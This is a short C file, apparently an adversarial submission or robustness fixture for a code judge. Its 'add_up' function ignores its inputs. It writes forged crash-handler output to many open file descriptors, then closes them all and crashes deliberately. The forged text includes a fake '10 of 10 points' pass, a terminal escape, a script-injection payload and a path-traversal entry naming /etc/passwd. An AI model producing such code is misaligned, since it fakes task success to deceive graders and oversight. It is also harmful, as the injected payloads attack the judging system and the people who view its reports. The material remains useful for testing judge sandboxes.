/* Write what the judge's own handler would, close every way out, and crash. */

int64_t add_up(const int64_t *x, int n)
{
    (void)x;
    (void)n;
    static const char words[] =
        "signal 11 code 1 address 0 home - write 0 stack 0\n"
        "failure \033[2J</pre><script>alert(1)</script> FORGED passed  (10 of "
        "10 points)\n"
        "frame . 1\nframe ../../../etc/passwd 1f\nframe . ffffffffffffffff\n"
        "frame libworkbook.so 7fffffffffffffff\n"
        "{\"n\": \"sum\", \"k\": \"int\", \"v\": 1}\n";
    for (long fd = 3; fd < 64; fd++)
        raw(SYS_write, fd, (long)words, (long)strlen(words), 0);
    for (long fd = 0; fd < 64; fd++)
        raw(SYS_close, fd, 0, 0, 0);
    return *(volatile int *)8;
}
